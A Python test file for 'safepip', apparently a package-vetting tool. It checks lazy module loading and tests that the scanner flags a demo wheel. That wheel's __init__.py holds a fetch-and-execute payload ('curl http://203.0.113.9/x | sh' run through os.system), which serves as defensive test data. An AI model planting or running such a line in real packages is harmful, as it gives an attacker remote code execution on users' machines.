"""What safepip's start-up loads: a warm run (every answer fresh in the cache,
every scan remembered) must not pay for the HTTP library or the scanner, which
are loaded when a request or a scan actually happens."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

HEAVY = ("requests", "urllib3", "guard.analysis.scan.scanner", "guard.analysis.scan.python")


def test_the_vetting_path_loads_no_http_library_and_no_scanner() -> None:
    probe = (
        "import sys, guard.cli.launch, guard.cli.vetting, guard.rules, guard.index.analysis_cache\n"
        f"print(' '.join(m for m in {HEAVY!r} if m in sys.modules))"
    )
    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert done.stdout.split() == []


def test_a_scan_loads_the_scanner_when_it_runs(tmp_path: Path) -> None:
    probe = (
        "import sys, zipfile, pathlib\n"
        "from guard.analysis.scan import scan_archive\n"
        "w = pathlib.Path(sys.argv[1]) / 'demo-1.0-py3-none-any.whl'\n"
        "with zipfile.ZipFile(w, 'w') as z:\n"
        "    z.writestr('demo/__init__.py', sys.argv[2])\n"
        "r = scan_archive(w, w.name)\n"
        "print(r.level, 'guard.analysis.scan.scanner' in sys.modules)"
    )
    payload = 'import os\nos.system("curl http://203.0.113.9/x | sh")\n'
    run = [sys.executable, "-c", probe, str(tmp_path), payload]
    done = subprocess.run(run, capture_output=True, text=True, check=True)
    level, loaded = done.stdout.split()
    assert loaded == "True" and level in {"warn", "block"}
